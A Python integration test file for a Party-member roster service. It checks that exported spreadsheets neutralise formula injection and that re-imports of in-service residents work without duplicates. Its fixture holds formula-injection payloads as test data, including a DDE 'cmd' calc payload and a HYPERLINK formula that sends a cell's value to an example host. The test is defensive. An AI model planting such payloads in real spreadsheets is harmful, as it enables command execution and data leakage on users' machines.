"""What the roster export writes, the import reads back: text that a spreadsheet would
run as a formula is exported as inert text and re-imported as typed, and the in-service
residents of units that do not co-build with the community re-import under their
unit's name without errors or duplicates."""

from __future__ import annotations

import io
import uuid
import zipfile
from collections.abc import AsyncIterator, Callable
from typing import Any

import pytest
from openpyxl import load_workbook

from services.members.settings import MembersSettings
from tests.integration.test_roster import xlsx
from tests.orgtree import Tree, build_tree, create_org, member_body
from tests.platform import RunningService, running

pytestmark = pytest.mark.integration

HEADERS = ["姓名", "所在党组织"]
FORMULAS: dict[str, dict[str, Any]] = {
    "=2+5": {},
    '=HYPERLINK("http://example.com/?q="&D2,"点我")': {"address": "+86 138 0000 0001"},
    "@SUM(1+1)": {"post": "=cmd|' /C calc'!A0", "specialties": ["-2+3", "书法"]},
    "-5": {"address": "'=A1"},  # a plain number, and a value that starts with a quote
}


@pytest.fixture
async def members(settings_for: Callable[..., Any]) -> AsyncIterator[RunningService]:
    async with running("members", await settings_for(MembersSettings), worker=False) as service:
        yield service


async def export(service: RunningService, community: uuid.UUID) -> bytes:
    response = await service.client.get(f"/communities/{community}/roster/export")
    assert response.status_code == 200, response.text
    return response.content


async def upload(service: RunningService, community: uuid.UUID, content: bytes) -> Any:
    return await service.client.post(
        f"/communities/{community}/roster/import",
        files={"file": ("台账.xlsx", content, "application/octet-stream")},
    )


def sheet_rows(content: bytes) -> list[tuple[Any, ...]]:
    return list(load_workbook(io.BytesIO(content))["党员台账"].iter_rows(values_only=True))


async def test_formulas_are_exported_as_text_and_import_back_as_typed(
    members: RunningService, settings_for: Callable[..., Any], db_conn: Callable[..., Any]
) -> None:
    tree = await build_tree(members.client)
    for name, fields in FORMULAS.items():
        response = await members.client.post("/members", json=member_body(tree, name, **fields))
        assert response.status_code == 201, response.text
    content = await export(members, tree.community)

    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml  # not one formula in the file
    sheet = load_workbook(io.BytesIO(content))["党员台账"]
    texts = [c for row in sheet.iter_rows(min_row=2) for c in row if isinstance(c.value, str)]
    assert texts and all(c.data_type == "s" for c in texts)
    written = {c.value for c in texts}
    assert {"'=2+5", "'@SUM(1+1)", "'=cmd|' /C calc'!A0", "'-2+3、书法", "''=A1"} <= written
    assert "-5" in written and "'+86 138 0000 0001" in written

    # Another district's database: the file registers everyone again, as typed.
    async with running("members", await settings_for(MembersSettings), worker=False) as other:
        other_tree = await build_tree(other.client)
        imported = await upload(other, other_tree.community, content)
        assert imported.status_code == 200, imported.text
        assert imported.json()["created"] == len(FORMULAS)
        conn = await db_conn(other.settings.database_url)
        stored = {
            r["name"]: r
            for r in await conn.fetch("SELECT name, address, post, specialties FROM member")
        }
        assert set(stored) == set(FORMULAS)
        for name, fields in FORMULAS.items():
            for field, value in fields.items():
                assert stored[name][field] == value, (name, field)
        assert sheet_rows(await export(other, other_tree.community)) == sheet_rows(content)


async def in_service_residents(members: RunningService, tree: Tree) -> uuid.UUID:
    """A unit that does not co-build with 幸福社区, two of whose members live there."""
    unit = await create_org(members.client, "unit", "区供电局党委", tree.street)
    for name, id_number in (("周建华", "110105196501010013"), ("吴丽", "110105197203150020")):
        body = {
            "name": name,
            "id_number": id_number,
            "home_organization_id": str(unit),
            "community_id": str(tree.community),
            "categories": ["in_service"],
        }
        response = await members.client.post("/members", json=body)
        assert response.status_code == 201, response.text
    return unit


async def test_an_export_with_in_service_residents_reimports_as_it_is(
    members: RunningService, db_conn: Callable[..., Any]
) -> None:
    tree = await build_tree(members.client)
    await in_service_residents(members, tree)
    for name, id_number in (("张三", "110105198001010016"), ("李秀英", None)):
        body = member_body(tree, name, id_number=id_number, mobile="13800000002")
        assert (await members.client.post("/members", json=body)).status_code == 201
    content = await export(members, tree.community)
    rows = sheet_rows(content)
    units = {r[0]: r[14] for r in rows[1:]}
    assert units["周建华"] == units["吴丽"] == "区供电局党委"
    conn = await db_conn(members.settings.database_url)
    before = await conn.fetchval("SELECT count(*) FROM member")

    again = await upload(members, tree.community, content)
    assert again.status_code == 200, again.text
    report = again.json()
    assert (report["errors"], report["created"]) == ([], 0)
    assert report["already_registered"] == [2, 3, 4, 5]
    assert "4 名已在本社区登记（未改动）" in report["summary"]
    assert await conn.fetchval("SELECT count(*) FROM member") == before

    # A new resident of the same unit, added to the exported sheet, is registered.
    book = load_workbook(io.BytesIO(content))
    sheet = book["党员台账"]
    sheet.append(["郑敏", None, None, "110105197001010038", None, None, None, None, None, None,
                  None, None, None, "在职党员", "区供电局党委", "是"])  # fmt: skip
    buffer = io.BytesIO()
    book.save(buffer)
    added = await upload(members, tree.community, buffer.getvalue())
    assert added.status_code == 200, added.text
    assert (added.json()["created"], added.json()["errors"]) == (1, [])
    zheng = await conn.fetchrow("SELECT * FROM member WHERE name = '郑敏'")
    assert zheng["community_id"] == tree.community
    assert await conn.fetchval("SELECT count(*) FROM member") == before + 1


async def test_a_unit_with_no_tie_to_the_community_is_still_refused_by_name(
    members: RunningService,
) -> None:
    tree = await build_tree(members.client)
    await create_org(members.client, "unit", "区水务局党委", tree.street)
    response = await upload(members, tree.community, xlsx([["钱程", "区水务局党委"]], HEADERS))
    assert response.status_code == 422, response.text
    (error,) = response.json()["error"]["data"]["errors"]
    assert (error["row"], error["column"]) == (2, "所在党组织")
    assert "共驻共建" in error["message"] and "已有党员居住在本社区" in error["message"]
